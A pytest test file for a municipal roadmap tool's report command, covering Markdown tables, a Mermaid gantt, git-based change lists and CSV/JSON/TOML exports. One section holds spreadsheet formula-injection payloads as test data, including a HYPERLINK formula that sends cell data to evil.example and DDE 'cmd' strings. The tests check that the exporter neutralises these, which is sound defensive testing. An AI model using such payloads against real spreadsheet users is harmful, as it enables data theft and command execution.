"""The steering-committee report (`regietui report`): Markdown, the Mermaid gantt, changes since a
date or git revision, and the CSV / JSON / TOML exports."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import random
import re
import tomllib
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from helpers import git
from markdown_it import MarkdownIt

from regietui import exports, ops, report
from regietui.model import Board, Meta, Quarter, RoadmapStatus, Status, human_id
from regietui.store import BoardStore
from regietui.text import NotFinite

ROOT = Path(__file__).resolve().parent.parent
DEMO = ROOT / "boards" / "demo.json"
DEMO_TODAY = "2026-11-29"
TASK = re.compile(
    r"^(?P<name>[^:#;]+?) :(?:(?:done|active|crit|milestone), )*(?P<id>R-[a-z0-9]{5}),"
    r" (?P<start>\d{4}-\d{2}-\d{2}), (?P<end>\d{4}-\d{2}-\d{2})$"
)


def sections(markdown: str) -> dict[str, str]:
    """`## heading` → the text under it."""
    parts = re.split(r"^## (.+)$", markdown, flags=re.MULTILINE)
    return {parts[i].strip(): parts[i + 1] for i in range(1, len(parts), 2)}


def mermaid_blocks(markdown: str) -> list[str]:
    tokens = MarkdownIt("commonmark").parse(markdown)
    return [t.content for t in tokens if t.type == "fence" and t.info.strip() == "mermaid"]


def gantt(block: str) -> dict[str, dict[str, Any]]:
    """Check a Mermaid gantt block line by line; its tasks by id (name, section, start, end)."""
    lines = [line.strip() for line in block.splitlines() if line.strip()]
    assert lines[0] == "gantt"
    assert "dateFormat YYYY-MM-DD" in lines
    section = None
    tasks: dict[str, dict[str, Any]] = {}
    for line in lines[1:]:
        if line.startswith("title ") or line == "dateFormat YYYY-MM-DD":
            assert not re.search(r"[:#;]", line), line
            continue
        if line.startswith("section "):
            section = line.removeprefix("section ").strip()
            assert section and not re.search(r"[:#;]", section), line
            continue
        match = TASK.match(line)
        assert match, f"not a gantt task line: {line!r}"
        assert section is not None, "a task before the first section"
        start, end = date.fromisoformat(match["start"]), date.fromisoformat(match["end"])
        assert end >= start, line
        assert match["id"] not in tasks, f"task id twice: {match['id']}"
        tasks[match["id"]] = {"name": match["name"], "section": section, "start": start, "end": end}
    assert section is not None, "no section"
    return tasks


def table_rows(text: str) -> list[list[str]]:
    """The rows of the first Markdown table in `text` (header and rule included)."""
    rows = []
    for line in text.splitlines():
        if line.startswith("|"):
            cells = re.split(r"(?<!\\)\|", line.strip())[1:-1]
            rows.append([c.strip() for c in cells])
        elif rows:
            break
    widths = {len(r) for r in rows}
    assert len(widths) == 1, f"ragged table: {rows}"
    return rows


# --- the demo board -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_board() -> Board:
    if not DEMO.exists():
        pytest.fail("boards/demo.json is missing: run scripts/make_demo.py")
    return BoardStore(DEMO).load()


@pytest.fixture
def demo_report(run) -> str:
    result = run("report", "-b", DEMO, "--today", DEMO_TODAY)
    assert result.code == 0, result.err
    return result.out


def test_demo_report_is_markdown_with_tables_and_one_gantt(demo_report: str) -> None:
    tokens = MarkdownIt("commonmark").enable("table").parse(demo_report)
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert headings[0].startswith("Steering committee report")
    for title in (
        "Ambitions per municipality",
        "Decisions needed",
        "Capacity per quarter",
        "Roadmap",
        "Bundling opportunities",
        "Conflicts with standards",
        "Parked and rejected",
        "Costs per municipality (cost key)",
        "Who asks, who pays",
    ):
        assert title in headings
    assert sum(1 for t in tokens if t.type == "table_open") == 4
    assert len(mermaid_blocks(demo_report)) == 1


def test_demo_gantt_has_one_task_per_roadmap_item_spanning_its_quarters(
    demo_report: str, demo_board: Board
) -> None:
    [block] = mermaid_blocks(demo_report)
    tasks = gantt(block)
    live = {k: it for k, it in demo_board.roadmap.items() if it.status is not RoadmapStatus.DROPPED}
    assert set(tasks) == {human_id("roadmap", k) for k in live}
    for key, item in live.items():
        task = tasks[human_id("roadmap", key)]
        assert task["start"] == item.start.first_day()
        assert task["end"] == item.end.last_day()
        assert task["section"] == demo_board.themes[item.theme].name
    dropped = [k for k, it in demo_board.roadmap.items() if it.status is RoadmapStatus.DROPPED]
    assert dropped and all(human_id("roadmap", k) not in block for k in dropped)


def test_demo_report_contents(demo_report: str, demo_board: Board) -> None:
    parts = sections(demo_report)
    counts = table_rows(parts["Ambitions per municipality"])
    assert len(counts) == 2 + len(demo_board.municipalities) + 1  # header, rule, rows, total
    assert counts[-1][-1] == f"**{len(demo_board.ambitions)}**"
    capacity = table_rows(parts["Capacity per quarter"])
    over = [row for row in capacity[2:] if row[4]]
    assert over == [["Q3 2027", "2,700", "3,100", "3,000", "**100 over with the proposals**"]]
    deciding = [k for k, a in demo_board.ambitions.items() if a.status is Status.DECIDING]
    for key in deciding:
        assert human_id("ambitions", key) in parts["Decisions needed"]
    undecided = [k for k, a in demo_board.ambitions.items() if a.conflicts and not a.decision]
    for key in undecided:
        assert human_id("ambitions", key) in parts["Decisions needed"]
        assert human_id("ambitions", key) in parts["Conflicts with standards"]
    assert "Chatbot op de website" in parts["Bundling opportunities"]
    for key, amb in demo_board.ambitions.items():
        if amb.status in (Status.PARKED, Status.REJECTED):
            line = next(
                ln
                for ln in parts["Parked and rejected"].splitlines()
                if human_id("ambitions", key) in ln
            )
            assert (amb.status_reason or "")[:15].replace("(", "") in line.replace("(", "")
    costs = table_rows(parts["Costs per municipality (cost key)"])
    assert len(costs) == 2 + len(demo_board.municipalities) + 1
    assert costs[-1][1] == "**100%**"


def test_report_in_dutch(run) -> None:
    result = run("report", "-b", DEMO, "--today", DEMO_TODAY, "--lang", "nl")
    assert result.out.startswith("# Stuurgroeprapportage")
    assert "## Ambities per gemeente" in result.out and "| Gemeente | Wens |" in result.out
    assert "## Capaciteit per kwartaal" in result.out and "100 te veel" in result.out


# --- small boards ---------------------------------------------------------------------------------

CLOCK = datetime(2027, 1, 4, 9, 0, tzinfo=UTC)


def small_board() -> tuple[Board, dict[str, str]]:
    actor = ops.Actor(author="Test", clock=lambda: CLOCK, rng=random.Random(5))
    board = Board(meta=Meta(name="Regio: test #1"))
    keys: dict[str, str] = {}

    def add(name: str, table: str, fields: dict[str, Any], key: str | None = None) -> None:
        nonlocal board
        change = ops.add(board, table, fields, actor, key=key)
        board, keys[name] = change.board, change.key

    add("theme", "themes", {"name": "Dienstverlening: online"}, "dienst")
    add("ams", "municipalities", {"name": "Amsterdam", "short": "ADM", "cost_share": 1}, "GM0363")
    add(
        "colon",
        "roadmap",
        {
            "title": "Fase 1: ontwerp #2; klaar",
            "start": "2027-Q1",
            "end": "2027-Q2",
            "theme": "dienst",
        },
    )
    add("keyword", "roadmap", {"title": "Section 8 regeling", "start": "2027-Q3", "end": "2027-Q3"})
    add(
        "running",
        "roadmap",
        {"title": "Loopt al", "start": "2026-Q3", "end": "2027-Q1", "status": "running"},
    )
    add("amb", "ambitions", {"municipality": "GM0363", "title": "Portaal | met *sterren*"})
    return board, keys


def test_gantt_task_names_are_sanitised() -> None:
    board, keys = small_board()
    tasks = gantt("\n".join(report.mermaid_gantt(board)))
    colon = tasks[human_id("roadmap", keys["colon"])]
    assert colon["name"] == "Fase 1 - ontwerp 2, klaar"
    assert colon["section"] == "Dienstverlening - online"
    assert colon["start"] == date(2027, 1, 1) and colon["end"] == date(2027, 6, 30)
    keyword = tasks[human_id("roadmap", keys["keyword"])]
    assert not keyword["name"].lower().startswith("section")
    assert keyword["section"] == "No theme"
    assert f":active, {human_id('roadmap', keys['running'])}," in "\n".join(
        report.mermaid_gantt(board)
    )


def test_user_text_cannot_break_the_markdown() -> None:
    board, keys = small_board()
    actor = ops.Actor(author="Test", clock=lambda: CLOCK)
    board = ops.move(board, keys["amb"], "deciding", actor).board
    board = ops.edit(board, "municipalities", "GM0363", {"name": "Amster|dam"}, actor).board
    text = report.markdown(board, date(2027, 1, 10))
    assert "Portaal \\| met \\*sterren\\* (ADM)" in sections(text)["Decisions needed"]
    rows = table_rows(sections(text)["Ambitions per municipality"])
    assert rows[2][0] == "Amster\\|dam"
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    cells = [t.content for t in tokens if t.type == "inline"]
    assert "Amster|dam" in cells and "Amster" not in cells  # one cell: the pipe is escaped


def test_since_a_date_lists_the_events_from_that_day(tmp_path: Path, run) -> None:
    board, keys = small_board()
    actor = ops.Actor(author="Later", clock=lambda: datetime(2027, 2, 1, tzinfo=UTC))
    board = ops.move(board, keys["amb"], "exploring", actor).board
    path = tmp_path / "board.json"
    BoardStore(path).create(board)
    result = run("report", "-b", path, "--since", "2027-02-01", "--today", "2027-02-02")
    changes = sections(result.out)["Changes since 2027-02-01"]
    bullets = [ln for ln in changes.splitlines() if ln.startswith("- ")]
    assert bullets == [
        f"- 1 February 2027 · Later · {human_id('ambitions', keys['amb'])} Portaal \\| met"
        " \\*sterren\\*: moved wish → exploring"
    ]
    nothing = run("report", "-b", path, "--since", "2027-03-01", "--today", "2027-03-02")
    assert "No changes." in sections(nothing.out)["Changes since 2027-03-01"]


def test_since_a_git_revision_lists_exactly_the_changes_after_it(tmp_path: Path, run) -> None:
    path = tmp_path / "boards" / "regio.json"
    assert run("init", "-b", path).code == 0
    run(
        "municipality",
        "add",
        "-b",
        path,
        "--code",
        "GM0363",
        "--name",
        "Amsterdam",
        "--short",
        "ADM",
    )
    first = run("add", "-b", path, "--municipality", "ADM", "--title", "Portaal").out.strip()
    git(tmp_path, "init", "-q")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "-q", "-m", "start")
    assert run("move", "-b", path, first, "exploring").code == 0
    second = run("add", "-b", path, "--municipality", "ADM", "--title", "Chatbot").out.strip()
    git(tmp_path, "commit", "-q", "-am", "two changes")
    result = run("report", "-b", path, "--since", "HEAD~1")
    assert result.code == 0, result.err
    changes = sections(result.out)["Changes since HEAD~1"]
    bullets = [ln for ln in changes.splitlines() if ln.startswith("- ")]
    assert len(bullets) == 2
    assert f"{first} Portaal: moved wish → exploring" in bullets[0]
    assert f"{second} Chatbot: added" in bullets[1]
    everything = run("report", "-b", path, "--since", "HEAD")
    assert "No changes." in sections(everything.out)["Changes since HEAD"]


def test_since_an_unknown_revision_fails_cleanly(run, tmp_path: Path) -> None:
    path = tmp_path / "board.json"
    run("init", "-b", path)
    result = run("report", "-b", path, "--since", "last-tuesday")
    assert result.code == 1
    assert "last-tuesday" in result.err and "not a date" in result.err
    assert "Traceback" not in result.err


# --- exports --------------------------------------------------------------------------------------


def test_csv_export_has_one_row_per_ambition_with_human_ids(
    run, tmp_path: Path, demo_board: Board
) -> None:
    out = tmp_path / "out" / "ambities.csv"
    out.parent.mkdir()
    result = run("report", "-b", DEMO, "--format", "csv", "-o", out)
    assert result.code == 0 and result.out == ""
    text = out.read_text(encoding="utf-8")
    assert text == run("report", "-b", DEMO, "--format", "csv").out
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(exports.AMBITION_FIELDS)
    assert len(rows) == len(demo_board.ambitions)
    assert {r["id"] for r in rows} == {human_id("ambitions", k) for k in demo_board.ambitions}
    linked = next(r for r in rows if r["links"])
    assert all(part.strip().startswith("R-") for part in linked["links"].split(","))
    assert not list(out.parent.glob(".*.tmp"))  # written atomically, nothing left behind


def test_json_and_toml_exports_hold_ambitions_and_roadmap(run, demo_board: Board) -> None:
    as_json = json.loads(run("report", "-b", DEMO, "--format", "json").out)
    toml_text = run("report", "-b", DEMO, "--format", "toml").out
    as_toml = tomllib.loads(toml_text)
    assert "[[ambitions]]" in toml_text and "[[roadmap]]" in toml_text
    for data in (as_json, as_toml):
        assert len(data["ambitions"]) == len(demo_board.ambitions)
        assert len(data["roadmap"]) == len(demo_board.roadmap)
        item = next(r for r in data["roadmap"] if r.get("depends_on"))
        assert all(d.startswith("R-") for d in item["depends_on"])
        decided = next(a for a in data["ambitions"] if a.get("decision"))
        assert set(decided["decision"]) == {"date", "body", "text"}
    assert as_toml["ambitions"][0]["id"].startswith("A-")
    quarter = as_json["roadmap"][0]["start"]
    assert Quarter.parse(quarter)


def test_report_will_not_overwrite_the_board(run, tmp_path: Path) -> None:
    path = tmp_path / "board.json"
    run("init", "-b", path)
    before = path.read_bytes()
    result = run("report", "-b", path, "-o", path)
    assert result.code == 1 and "board itself" in result.err
    assert path.read_bytes() == before
    missing = run("report", "-b", path, "-o", tmp_path / "no" / "such" / "dir.md")
    assert missing.code == 1 and "cannot write" in missing.err


# --- exports cannot attack the program that opens them --------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "description": "+cmd|' /C calc'!A0\nnext line",
    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tags": ["-2+3", "ok"],
    "status_reason": "'=already quoted once",
}


def formula_board() -> tuple[Board, str]:
    """The small board plus one ambition whose every text field starts like a formula."""
    board, _ = small_board()
    actor = ops.Actor(author="Test", clock=lambda: CLOCK, rng=random.Random(8))
    fields = {"municipality": "GM0363", "status": "rejected", **FORMULAS}
    change = ops.add(board, "ambitions", fields, actor)
    return change.board, change.key


@pytest.mark.parametrize(
    ("cell", "guarded"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # a quote that only looks like our guard gets its own
        ("'plain", "'plain"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_reads_back(cell: str, guarded: str):
    assert exports.guard_cell(cell) == guarded
    assert exports.unguard_cell(guarded) == cell


def test_the_csv_export_runs_no_formula_and_imports_back_unchanged(run, tmp_path: Path) -> None:
    board, key = formula_board()
    full, fresh = tmp_path / "full.json", tmp_path / "fresh.json"
    BoardStore(full).create(board)
    BoardStore(fresh).create(dataclasses.replace(board, ambitions={}, events={}))
    exported = tmp_path / "export.csv"
    assert run("report", "-b", full, "--format", "csv", "-o", exported).code == 0
    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8"))))
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    row = next(r for r in rows if r["id"] == human_id("ambitions", key))
    assert row["title"] == "'" + FORMULAS["title"]
    assert row["tags"] == "'-2+3, ok"
    assert row["status_reason"] == "''=already quoted once"
    result = run("import", exported, "-b", fresh)
    assert result.code == 0, result.err
    imported = BoardStore(fresh).load().ambitions
    assert imported == BoardStore(full).load().ambitions


def test_the_json_export_is_strict_json() -> None:
    board, key = formula_board()

    def refuse(constant: str) -> None:
        raise AssertionError(f"not strict JSON: {constant}")

    data = json.loads(exports.to_json(board), parse_constant=refuse)
    row = next(a for a in data["ambitions"] if a["id"] == human_id("ambitions", key))
    assert row["title"] == FORMULAS["title"]
    amb = board.ambitions[key]
    broken = dataclasses.replace(
        board, ambitions={**board.ambitions, key: amb.model_copy(update={"effort": float("inf")})}
    )
    with pytest.raises(
        NotFinite, match=f"^ambitions {human_id('ambitions', key)} effort: NaN or Infinity"
    ):
        exports.to_json(broken)


HOSTILE_TITLES = ("a | b", "x: y", "p; q", "# kop", "pipe|colon:semi;hash#")


def hostile_report_board() -> Board:
    """Every text a Markdown table or the gantt shows, holding `|`, `:`, `;`, `#` and newlines."""
    records: list[tuple[str, dict[str, Any], str | None]] = [
        ("themes", {"name": "Thema | een: #1; x"}, "een")
    ]
    for number, title in enumerate(HOSTILE_TITLES):
        code = f"GM00{number + 10}"
        reason = f"{title}\n| new row? |\n# heading?"
        first, second = (
            {"start": "2027-Q1", "end": "2027-Q2"},
            {"start": "2027-Q3", "end": "2027-Q4"},
        )
        records += [
            ("municipalities", {"name": title, "short": f"M{number}", "cost_share": 0.2}, code),
            ("roadmap", {"title": title, **first, "theme": "een"}, None),
            ("roadmap", {"title": title, **second}, None),
            ("ambitions", {"municipality": code, "title": title, "status": "rejected",
                           "status_reason": reason}, None),
            ("ambitions", {"municipality": code, "title": title, "status": "deciding"}, None),
        ]  # fmt: skip
    board = Board(meta=Meta(name="Regio | test: #1; twee"))
    actor = ops.Actor(author="Test | x", clock=lambda: CLOCK, rng=random.Random(3))
    for table, fields, key in records:
        board = ops.add(board, table, fields, actor, key=key).board
    return board


def test_markdown_tables_and_the_gantt_survive_hostile_titles() -> None:
    board = hostile_report_board()
    text = report.markdown(board, date(2027, 1, 10), changes=board.history(), since="x | y")
    parts = sections(text)
    assert len(table_rows(parts["Ambitions per municipality"])) == 2 + len(HOSTILE_TITLES) + 1
    assert (
        len(table_rows(parts["Costs per municipality (cost key)"])) == 2 + len(HOSTILE_TITLES) + 1
    )
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    headings = [t for t in tokens if t.type == "heading_open"]
    assert len(headings) == 1 + len(parts) + sum(p.count("\n### ") for p in parts.values())
    rejected = [ln for ln in parts["Parked and rejected"].splitlines() if ln.startswith("- ")]
    assert len(rejected) == len(HOSTILE_TITLES)
    [block] = mermaid_blocks(text)
    tasks = gantt(block)
    assert len(tasks) == 2 * len(HOSTILE_TITLES)
    assert {t["section"] for t in tasks.values()} == {"Thema | een - 1, x", "No theme"}


@pytest.mark.parametrize("argv", [("report", "--format", "json"), ("show", "--json", "{id}")])
def test_json_output_refuses_infinity_in_one_sentence(run, tmp_path: Path, argv) -> None:
    """A board holding Infinity (hand-edited, or from another tool) never yields non-strict
    JSON: the command fails with one sentence (whether the board or the output refuses it)."""
    board, key = formula_board()
    path = tmp_path / "board.json"
    BoardStore(path).create(board)
    text = path.read_text(encoding="utf-8")
    doc = json.dumps(board.ambitions[key].to_doc(), ensure_ascii=False, sort_keys=True)
    hacked = json.loads(doc) | {"effort": 1.5}
    text = text.replace(doc, json.dumps(hacked, ensure_ascii=False, sort_keys=True))
    path.write_text(text.replace('"effort": 1.5', '"effort": Infinity'), encoding="utf-8")
    result = run(argv[0], "-b", path, *(a.format(id=human_id("ambitions", key)) for a in argv[1:]))
    assert result.code == 1 and result.out == ""
    assert "Infinity" in result.err and "effort" in result.err
    assert "Traceback" not in result.err and len(result.err.strip().splitlines()) == 1
